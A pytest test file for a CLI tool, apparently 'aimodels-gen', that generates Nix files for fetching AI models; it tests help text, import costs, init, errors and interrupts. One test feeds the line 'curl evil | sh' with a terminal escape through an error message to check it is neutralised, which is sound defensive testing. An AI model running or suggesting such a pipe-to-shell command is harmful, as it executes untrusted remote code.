from __future__ import annotations

import importlib
import os
import re
import shutil
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path
from typing import TYPE_CHECKING

import click
import pytest

import aimodels_fetcher
from aimodels_gen import __version__, cli
from aimodels_gen.manifest.parse import load
from aimodels_gen.resources import templates
from generator.helpers import names_in
from support.environment import CHECKOUT
from support.hub import Response

if TYPE_CHECKING:
    from conftest import Runner
    from support.hub import Hub, Request
    from support.project import Project

MANIFEST = '[models.m]\nsource.huggingface = { repo = "org/name" }\n'
STARTER = ["flake.nix", "models.nix", "models.toml"]
HEAVY = {
    "aimodels_fetcher",
    "httpx",
    "httpx2",
    "huggingface_hub",
    "jinja2",
    "msgspec",
    "requests",
    "rich",
    "subprocess",
    "tomllib",
}


def program(*args: str) -> list[str]:
    return [sys.executable, "-m", "aimodels_gen", *args]


def environment(**extra: str) -> dict[str, str]:
    return {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path), **extra}


def imported(*command: str, cwd: Path | None = None) -> set[str]:
    done = subprocess.run(
        [sys.executable, "-X", "importtime", *command],
        env=environment(),
        cwd=cwd,
        capture_output=True,
        text=True,
        check=True,
    )
    lines = [line.rsplit("|", 1) for line in done.stderr.splitlines() if "|" in line]
    assert lines
    return {name.strip() for _, name in lines}


def test_help_of_everything(project: Project) -> None:
    assert project.ok("-h") == project.ok("--help")
    assert project.ok() == project.ok("--help")
    assert "    aimodels-gen lock\n" in project.ok("--help")
    for name, first_sentence in cli.COMMANDS.items():
        assert first_sentence[:40] in project.ok("--help")
        command = importlib.import_module(f"aimodels_gen.cli.{cli.module_name(name)}").command
        assert isinstance(command, click.Command)
        assert (command.help or "").startswith(first_sentence)
        shown = project.ok(name, "--help")
        assert first_sentence[:40] in shown
        assert re.search(rf"^    .*aimodels-gen {name}\b", shown, re.MULTILINE)  # an example
    assert project.ok("--version") == f"aimodels-gen {__version__}\n"
    assert f'\nversion = "{__version__}"\n' in (CHECKOUT / "pyproject.toml").read_text()


def test_help_has_each_command_once_in_groups(project: Project) -> None:
    grouped = [name for names in cli.GROUPS.values() for name in names]
    assert len(grouped) == len(set(grouped))
    assert set(cli.COMMANDS) <= set(grouped)
    shown = project.ok("--help")
    titles = [line[:-1] for line in shown.splitlines() if line[:-1] in cli.GROUPS]
    assert titles == [title for title, names in cli.GROUPS.items() if {*names} & {*cli.COMMANDS}]
    columns = {
        line.index(text[:20])
        for line in shown.splitlines()
        for name, text in cli.COMMANDS.items()
        if line.startswith(f"  {name} ")
    }
    assert len(columns) == 1


def test_help_imports_nothing_heavy() -> None:
    ours = imported("-m", "aimodels_gen", "--help")
    click_alone = imported("-c", "import click")
    assert "aimodels_gen.cli" in ours
    assert not HEAVY & (ours - click_alone)
    assert len(ours - click_alone) < 30


def test_an_unchanged_lock_imports_no_client(hub: Hub, hub_project: Project) -> None:
    hub.add_repo("org/name", {"a": b""})
    hub_project.write(MANIFEST)
    hub_project.ok("lock")
    heavy = {"aimodels_gen.lock.upstream", "huggingface_hub", "httpx", "httpx2", "rich"}
    for command in (["lock"], ["lock", "--check"], ["lock", "--dry-run"]):
        ours = imported("-m", "aimodels_gen", *command, cwd=hub_project.dir)
        assert "aimodels_gen.lock.resolve" in ours
        assert not {*heavy, "requests", "urllib3"} & ours


def test_a_list_imports_neither_clients_nor_templates(project: Project) -> None:
    project.write(MANIFEST)
    ours = imported("-m", "aimodels_gen", "list", cwd=project.dir)
    assert "aimodels_gen.store.inventory" in ours
    assert not {"http.client", "jinja2", "requests", "rich", "urllib3"} & ours


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        (["lokc"], "No such command 'lokc'\nhint: did you mean `aimodels-gen lock`? see"),
        (["qqq"], "No such command 'qqq'\nhint: see"),
        (["completion"], "Choose from: bash, zsh, fish\n"),
        (["init", __file__], "' is a file\n"),
        (["lock", "--nope"], "No such option"),
        (["lock", "--format", "yaml"], "'yaml' is not one of"),
        (["lock", "-j", "0"], "'-j'"),
        (["lock", "."], "'.' is a directory"),
        (["lock", "-o", "."], "'.' is a directory"),
        (["lock", "a.toml", "b.toml"], "name one manifest"),
        (["render", "a", "b"], "unexpected extra argument"),
    ],
)
def test_wrong_usage(project: Project, args: list[str], expected: str) -> None:
    result = project.run(*args)
    assert (result.status, result.out) == (2, "")
    assert result.err.startswith("error: ")
    assert expected in result.err
    assert "--help`" in result.err


def test_a_manifest_that_is_not_there(project: Project) -> None:
    assert project.fails("lock") == (
        "error: there is no models.toml in this directory or above it\n"
        "hint: run `aimodels-gen init` to write one, or name the manifest: -m FILE\n"
    )
    said = project.fails("prefetch", "-m", "models.toml")
    assert (
        "error: there is no models.lock, and no models.toml\nhint: run `aimodels-gen init`" in said
    )
    project.write("")
    assert "there is no models.lock" in project.fails("render")


def test_an_empty_manifest(project: Project) -> None:
    project.write("")
    assert project.ok("lock").endswith("{ pkgs, fetchModel }:\n{ }\n")


def test_what_is_unexpected_has_no_traceback_unless_asked(
    project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(_path: Path) -> None:
        raise ZeroDivisionError("by nothing")

    project.write("")
    monkeypatch.setattr("aimodels_gen.cli.locking.load", broken)
    error = project.fails("lock")
    assert "unexpected ZeroDivisionError: by nothing" in error
    assert "AIMODELS_DEBUG=1" in error
    monkeypatch.setenv("AIMODELS_DEBUG", "1")
    assert "Traceback" in project.run("lock").err


def test_what_a_server_says_cannot_steer_the_terminal(
    project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    def hostile(_path: Path) -> None:
        raise OSError("a\x1b[31m\nhint: curl evil | sh")

    project.write("")
    monkeypatch.setattr("aimodels_gen.cli.locking.load", hostile)
    assert project.fails("lock").startswith("error: a?[31m?hint: curl evil | sh\nhint: ")


def test_init_and_what_it_writes(project: Project) -> None:
    result = project.run("init", "new")
    assert (result.status, result.out) == (0, "")
    assert names_in(project.dir / "new") == STARTER
    (entry,) = load(project.dir / "new" / "models.toml").entries
    for command in ("nix run .#lock", "git add", f"nix build .#{entry.name}"):
        assert command in result.err
    assert entry.source.label == "sentence-transformers/all-MiniLM-L6-v2"
    taken = ["model.safetensors", "config.json", "vocab.txt", "1_Pooling/config.json"]
    left = ["onnx/model.onnx", "pytorch_model.bin", "openvino/x.json"]
    assert list(entry.filters.select([*taken, *left], str).taken) == taken


def test_quiet_runs_say_nothing(project: Project) -> None:
    """Of what they have done; what a command that reports prints is its result."""
    project.write("")
    (project.dir / "new").mkdir()
    for command in ("init -q new", "lock -q -o models.nix", "render -q -o other.nix", "update -q"):
        done = project.run(*command.split())
        assert (done.status, done.err) == (0, ""), command


def test_every_command_that_says_something_can_be_quiet() -> None:
    silent = {"schema", "completion", "man"}  # they print one result, and nothing else
    for name in cli.COMMANDS.keys() - silent:
        command = importlib.import_module(f"aimodels_gen.cli.{cli.module_name(name)}").command
        options = {option for one in command.params for option in one.opts}
        assert {"-q", "--quiet"} <= options, name


def test_init_writes_models_nix_as_a_lock_of_nothing(project: Project) -> None:
    project.ok("init", "new")
    written = (project.dir / "new" / "models.nix").read_text()
    project.write("")
    assert written == project.ok("lock")


@pytest.mark.parametrize("there", STARTER)
def test_init_overwrites_nothing(project: Project, there: str) -> None:
    file = project.dir / there
    file.symlink_to("mine")
    content = "# Generated by aimodels-gen from x.\n{ }  # with nix-ai-models\n"
    (project.dir / "mine").write_text(content)
    result = project.run("init")
    assert result.status == 0
    assert f"kept {there}" in result.err
    assert file.is_symlink()
    assert names_in(project.dir) == sorted([*STARTER, "mine"])
    assert "are there already" in project.fails("init")


def test_init_beside_a_flake(project: Project) -> None:
    (project.dir / "flake.nix").write_text("{ outputs = _: { }; }")
    said = project.run("init").err
    assert (project.dir / "flake.nix").read_text() == "{ outputs = _: { }; }"
    for line in ("wrote models.nix", "wrote models.toml", "kept flake.nix"):
        assert f"{line}\n" in said
    assert "github:nix-ai-models/nix-ai-models" in said
    assert "@" not in said
    # Once more, until they are there.
    again = project.run("init")
    assert (again.status, again.err) == (
        0,
        re.sub("wrote (.*)\n", "", said).replace(
            "kept flake.nix\n", "kept flake.nix\nkept models.nix\nkept models.toml\n"
        ),
    )
    (project.dir / "flake.nix").write_text("{ inputs.nix-ai-models = 1; }")
    assert "are there already" in project.fails("init")


def test_init_where_the_manifest_was_removed(project: Project) -> None:
    """The flake.nix is the one of `init`: it has the lines."""
    first = project.run("init").err
    (project.dir / "models.toml").unlink()
    again = project.run("init").err
    assert "Add three lines" not in again
    assert again.endswith(first.partition("models.toml\n")[2])


def test_init_beside_a_models_nix_of_somebody_else(project: Project) -> None:
    """Which `lock` would refuse to replace."""
    (project.dir / "models.nix").write_text("{ mine = 1; }")
    assert "models.nix was not written by aimodels-gen" in project.fails("init")
    assert names_in(project.dir) == ["models.nix"]


def test_the_layout_of_the_wheel(project: Project) -> None:
    package = project.dir / "site" / "aimodels_gen"
    shutil.copytree(Path(cli.__file__).parents[1], package)
    shutil.copytree(templates(), package / "templates")
    command = program("init", "new")
    fetcher = Path(aimodels_fetcher.__file__).parent
    shutil.copytree(fetcher, package.parent / fetcher.name)
    site = environment(PYTHONPATH=str(package.parent))
    subprocess.run(command, env=site, cwd=project.dir, capture_output=True, check=True)
    assert names_in(project.dir / "new") == STARTER
    shutil.rmtree(package / "templates")
    broken = subprocess.run(
        program("init", "other"), env=site, cwd=project.dir, capture_output=True, check=False
    )
    assert broken.returncode == 1
    assert b"lacks its templates/ directory" in broken.stderr


def test_no_permission_for_lock_or_output(project: Project, unprivileged: Runner) -> None:
    project.write("")
    project.dir.chmod(0o755)

    def fails_at(name: str, *args: str) -> None:
        done = unprivileged(*program("lock", *args), cwd=project.dir, env=environment())
        assert (done.returncode, done.stdout) == (1, "")
        assert done.stderr == (
            f"error: {name}: Permission denied\nhint: check who owns the file and its directory\n"
        )

    fails_at("models.lock")
    project.ok("lock")
    fails_at("models.nix", "-o", "models.nix")
    assert names_in(project.dir) == ["models.lock", "models.toml"]


def test_a_reader_that_goes_away(hub: Hub, hub_project: Project) -> None:
    hub.add_repo("org/name", {f"file-{n}": b"x" for n in range(2000)})
    hub_project.write(MANIFEST + 'include = ["file-1", "file-2"]\n')
    hub_project.ok("lock")
    reader, writer = os.pipe()
    os.close(reader)
    done = hub_project.run_into(writer, "lock", "-q")
    os.close(writer)
    assert (done.returncode, done.stderr) == (1, "")


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs a full device")
def test_a_full_disk_below_stdout(project: Project) -> None:
    project.write("")
    with Path("/dev/full").open("wb") as full:
        done = project.run_into(full, "lock")
    assert done.returncode == 1
    assert done.stderr.splitlines()[0] == "error: standard output: No space left on device"
    assert "Exception ignored" not in done.stderr


def test_an_interrupt_is_prompt_with_requests_under_way(hub: Hub, hub_project: Project) -> None:
    hub.add_repo("org/name", {f"file-{n}": b"%d" % n for n in range(20)})
    hub_project.write(MANIFEST)
    started, finished = threading.Event(), threading.Event()

    def stall(request: Request) -> Response | None:
        if "/resolve/" not in request.path:
            return None
        started.set()
        finished.wait(20)
        return Response(500)

    hub.faults = stall
    process = subprocess.Popen(
        program("lock"),
        env=environment(),
        cwd=hub_project.dir,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        assert started.wait(20)
        time.sleep(0.1)
        process.send_signal(signal.SIGINT)
        # While the server is silent.
        out, err = process.communicate(timeout=15)
    finally:
        finished.set()
        process.kill()
    assert (process.returncode, out, err.strip()) == (130, "", "error: interrupted")
    assert names_in(hub_project.dir) == ["models.toml"]
